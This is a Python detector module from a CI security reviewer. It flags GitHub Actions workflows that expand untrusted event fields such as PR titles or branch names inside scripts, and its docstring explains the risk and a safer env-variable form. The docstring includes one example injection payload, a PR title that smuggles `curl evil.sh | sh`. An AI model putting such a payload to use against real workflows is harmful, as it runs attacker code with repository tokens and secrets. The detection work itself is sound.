"""CI004: attacker-controlled `${{ github.event.* }}` values expanded inside scripts."""

from __future__ import annotations

import re
from collections.abc import Iterator

from reviewer.detectors.base import Detector
from reviewer.detectors.ci._common import block_lines, location, script_lines, trim, value_line
from reviewer.models import Finding, InputKind, Severity
from reviewer.parsers.workflow import Step, Workflow

_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}")
_ANY = r"(?:\[[^\]]*\]|\.\*|\.[\w-]+)*?"
#: Context values anyone who can open an issue, a pull request or a comment controls.
_UNTRUSTED = re.compile(
    r"github\.head_ref\b"
    r"|github\.event\.(?:"
    r"issue\.(?:title|body)"
    r"|pull_request\.(?:title|body|head\.(?:ref|label|repo\.(?:default_branch|description"
    r"|homepage|name)))"
    r"|(?:comment|review|review_comment)\.body"
    r"|discussion\.(?:title|body)|discussion_comment\.body"
    r"|pages" + _ANY + r"\.page_name"
    r"|commits" + _ANY + r"\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
    r"|head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
    r"|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email"
    r"|name)|committer\.(?:email|name))|pull_requests" + _ANY + r"\.head\.ref)"
    r"|(?:release\.(?:name|body)|pull_request_review\.body)"
    r")\b"
    r"|to(?:json|JSON|Json)\(\s*github\.event(?:\.(?:issue|pull_request|comment|review"
    r"|discussion|head_commit|commits))?\s*\)",
    re.IGNORECASE,
)


def untrusted_expressions(text: str) -> list[str]:
    """The ``${{ … }}`` expressions of ``text`` that expand attacker-controlled values."""
    if "${{" not in text:
        return []
    return [m.group(0) for m in _EXPRESSION.finditer(text) if _UNTRUSTED.search(m.group(1))]


class TemplateInjection(Detector[Workflow]):
    """Attacker-controlled `${{ github.event.* }}` values are expanded inside a script.

    ## What it detects
    `${{ … }}` expressions that expand an issue or pull request title or body, a comment or
    review body, a branch name (`github.head_ref`, `pull_request.head.ref`), commit messages
    or author names, wiki page names and similar untrusted event fields directly inside a
    `run:` script or the `script:` of `actions/github-script`. Passing the same value through
    `env:` and using it as `"$VAR"` is the safe form and is not reported.

    ## Why is this risky?
    GitHub substitutes the expression into the script text before the shell (or Node) sees
    it, so a pull request titled `"; curl evil.sh | sh; echo "` becomes code that runs with
    the workflow's token and secrets.

    ## Example
    ```yaml
    on: pull_request_target
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Thanks for ${{ github.event.pull_request.title }}"
    ```

    ## Safer alternative
    Pass untrusted values through an environment variable and quote it:
    ```yaml
    on: pull_request_target
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - env:
              TITLE: ${{ github.event.pull_request.title }}
            run: echo "Thanks for $TITLE"
    ```

    ## References
    - Checkov CKV_GHA_2 (no shell injection through `${{ github.event.* }}`)
    - zizmor `template-injection`
    - GitHub docs: "Security hardening for GitHub Actions: understanding the risk of script
      injections"
    """

    code = "CI004"
    name = "template-injection"
    family = "ci"
    kinds = (InputKind.WORKFLOW,)
    severity = Severity.HIGH
    remediation = (
        "Move the value into `env:` (e.g. `TITLE: ${{ github.event.pull_request.title }}`) and "
        "use it as a quoted variable (`\"$TITLE\"`, `process.env.TITLE`)."
    )

    def detect(self, doc: Workflow) -> Iterator[Finding]:
        if doc.platform != "github":
            return
        for job, step in doc.all_steps():
            for line, text, where in self._code_lines(step):
                if not doc.touches(line):
                    continue
                found = untrusted_expressions(text)
                if not found:
                    continue
                value = " ".join(found[0][3:-2].split())
                label = f"step '{step.name or step.uses}'" if step.name or step.uses else \
                    f"step {step.index + 1}"
                yield self.finding(
                    f"{doc.path}: job '{job.id}' {label} expands untrusted "
                    f"{value} inside its {where}",
                    location(doc, line), evidence=trim(text.strip()))

    @staticmethod
    def _code_lines(step: Step) -> Iterator[tuple[int, str, str]]:
        for line, text in script_lines(step):
            yield line, text, "run script"
        if (step.uses or "").lower().startswith("actions/github-script"):
            script = step.with_.get("script")
            if isinstance(script, str):
                start = value_line(step.with_, "script", step.line_of("with"))
                for line, text in block_lines(script, start):
                    yield line, text, "github-script"
